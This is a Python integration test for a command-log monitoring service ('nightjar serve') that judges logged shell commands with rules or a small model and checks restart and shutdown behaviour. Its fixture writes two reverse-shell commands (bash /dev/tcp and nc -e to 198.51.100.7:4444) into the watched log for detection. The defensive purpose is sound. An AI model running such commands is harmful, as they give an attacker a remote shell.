#!/usr/bin/env python3
"""`nightjar serve` running the watch sources of its config file: one
process serves the API and follows a log, judging its events with the one
model it holds (SmolLM2) and delivering verdicts to a JSON-lines sink.

  1. lines appended to the watched log get verdicts in the sink;
  2. /v1/analyze answers meanwhile;
  3. SIGTERM stops the service (watch included) with status 0;
  4. lines written while it was down are judged after a restart, and
     nothing is judged twice (the spool resumes at its offset);
  5. a bad watch source stops the start with a message naming it.

Prints one line per check and "N passed, M failed"; exits 1 on failure.
Every wait polls a condition under a generous deadline.
"""
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
import njtest  # noqa: E402
from njtest import BIN, MODEL, SLOW, check  # noqa: E402

DEADLINE = 600 if SLOW else 240


def wait_for(cond, deadline=DEADLINE):
    return njtest.wait_for(cond, deadline, 0.2)


def http(port, path, body=None):
    return njtest.http(port, path, body, timeout=DEADLINE)


def sink_ids(path):
    if not os.path.exists(path):
        return []
    return [json.loads(l)["event_id"] for l in open(path) if l.strip()]


def spool_counts(db):
    c = sqlite3.connect(db)
    try:
        return (c.execute("select count(*) from events").fetchone()[0],
                c.execute("select count(*) from verdicts").fetchone()[0])
    finally:
        c.close()


def main():
    if njtest.model_missing():
        return 0
    tmp = tempfile.mkdtemp(prefix="nj-serve-watch-")
    try:
        log, out, db = (os.path.join(tmp, n) for n in ("commands.log", "verdicts.jsonl", "spool.db"))
        open(log, "w").close()
        port = njtest.free_port()
        cfg = os.path.join(tmp, "config")
        with open(cfg, "w") as f:
            f.write(f"model = {MODEL}\nsocket = none\nport = {port}\nthreads = 1\nnice = 0\nidle_unload = 0\n"
                    f"watch = cmdline:{log}\nsink = jsonl:{out}\nspool_path = {db}\n")
        slog = os.path.join(tmp, "serve.log")

        def start():
            # one log for every run ("a+"): a restart keeps what the first run wrote
            p = njtest.Server([BIN, "serve", "--config", cfg], slog, port=port, mode="a+")
            return p if p.wait_ready(DEADLINE, step=0.2) else None

        p = start()
        if not check("serve starts with watch sources in its config", p is not None,
                     open(slog).read()[-400:]):
            return 1
        with open(log, "a") as f:
            f.write("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nls -la /tmp\ngit status\n")
        got = wait_for(lambda: len(set(sink_ids(out))) == 3)
        check("lines appended to the watched log get verdicts in the sink", got, str(sink_ids(out)))
        vs = {json.loads(l)["event_id"]: json.loads(l) for l in open(out)} if os.path.exists(out) else {}
        check("... the rule decides one, the service's model the others",
              vs.get("cmdline:1", {}).get("source") == "rule" and
              all(vs.get(i, {}).get("source") in ("model", "cache") and
                  vs[i].get("model", "").startswith("SmolLM2") for i in ("cmdline:2", "cmdline:3")),
              json.dumps(vs)[:400])
        st, body = http(port, "/v1/analyze", {"v": 1, "id": "api-1", "kind": "exec", "time": "2026-12-07T10:00:00Z",
                                              "source": {"format": "api"}, "process": {"cmdline": "uptime"}})
        check("/v1/analyze answers meanwhile", st == 200 and json.loads(body).get("event_id") == "api-1", body[:200])
        rc = p.stop(signal.SIGTERM, DEADLINE)
        check("SIGTERM stops the service, watch included, with status 0", rc == 0)
        with open(log, "a") as f:
            f.write("uname -a\nnc -e /bin/sh 198.51.100.7 4444\n")
        p = start()
        check("the service starts again", p is not None)
        got = wait_for(lambda: len(set(sink_ids(out))) == 5)
        check("lines written while it was down are judged after the restart", got, str(sink_ids(out)))
        ev, vt = spool_counts(db)
        check("nothing is read or judged twice", ev == 5 and vt == 5, f"{ev} events, {vt} verdicts")
        if p:
            p.stop(signal.SIGTERM, DEADLINE)

        with open(cfg, "a") as f:
            f.write("watch = nosuch:/var/log/x\n")
        r = subprocess.run([BIN, "serve", "--config", cfg], capture_output=True, text=True, timeout=DEADLINE)
        check("a bad watch source stops the start, naming it", r.returncode != 0 and "nosuch:/var/log/x" in r.stderr,
              r.stderr[-300:])
    finally:
        njtest.kill_all()
        shutil.rmtree(tmp, ignore_errors=True)
    return njtest.summary()


if __name__ == "__main__":
    sys.exit(main())
